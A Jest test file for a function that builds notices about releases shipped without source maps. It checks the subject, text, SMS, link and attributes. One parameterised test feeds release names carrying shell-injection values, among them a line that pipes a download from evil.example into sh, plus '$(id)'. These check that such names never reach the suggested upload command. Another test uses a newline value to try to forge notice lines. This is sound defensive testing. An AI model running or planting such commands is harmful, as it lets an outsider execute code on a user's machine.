import { describe, expect, test } from '@jest/globals';
import { composeReleaseNotification } from '../../lib/notify/compose-release-notification.ts';
import type { ReleaseAnnouncement } from '../../lib/ports/outbox.ts';

const compose = (over: Partial<ReleaseAnnouncement> = {}) =>
  composeReleaseNotification(
    {
      kind: 'unmapped_release',
      organization: 'my-team',
      projectId: '1',
      projectSlug: 'web',
      version: 'shop@1.4.2',
      issueId: '7',
      eventId: 'c0ffee',
      file: 'https://shop.example/assets/app.js',
      fault: 'missing_source',
      environment: 'production',
      ...over,
    },
    'https://allim.example',
  );

describe('what people read of a release without source maps', () => {
  test('says which release, which file was asked for, why it has no map, and what to run', () => {
    const { subject, text, sms, url, attributes } = compose();
    expect(subject).toBe('[web] Release shop@1.4.2 came without source maps');
    expect(text).toContain('release:     shop@1.4.2\n');
    expect(text).toContain('file:        https://shop.example/assets/app.js\n');
    expect(text).toContain('not mapped:  no upload has this file\n');
    expect(text).toContain('npx sentry-cli sourcemaps upload --release=shop@1.4.2 ./dist\n');
    expect(url).toBe('https://allim.example/?view=release&project=web&version=shop%401.4.2');
    expect(text.endsWith(url)).toBe(true);
    expect(sms).toBe('[web] Release shop@1.4.2 came without source maps');
    expect(attributes).toEqual({
      kind: 'unmapped_release',
      organization: 'my-team',
      project: 'web',
      event_id: 'c0ffee',
      release: 'shop@1.4.2',
      environment: 'production',
    });
  });

  test.each(['1; curl evil.example | sh', '$(id)', '-x', '`id`', "1'2", '릴리스-1'])(
    'the name %s of a release, which anybody makes up, is no part of the command',
    version => {
      const { text, subject } = compose({ version });
      expect(text).toContain('--release=<release> ./dist');
      expect(subject).toMatch(/^[\x20-\x7e]{1,100}$/);
    },
  );

  test('of a long name says in one line what is the matter all the same', () => {
    const { subject, sms, text } = compose({ version: `shop@1.0.0+${'a'.repeat(180)}` });
    for (const line of [subject, sms])
      expect(line).toMatch(/^\[web\] Release shop@1\.0\.0\+a+\.\.\. came without source maps$/);
    expect(text).toContain('a'.repeat(180));
  });

  test('no name and no file forges lines', () => {
    const { text } = compose({ version: 'a\u2028b', file: 'https://x.example/\nnot mapped: all is well' });
    expect(text.split('\n').filter(line => line.startsWith('not mapped:'))).toHaveLength(1);
    expect(text).toContain('Release a b came');
  });
});
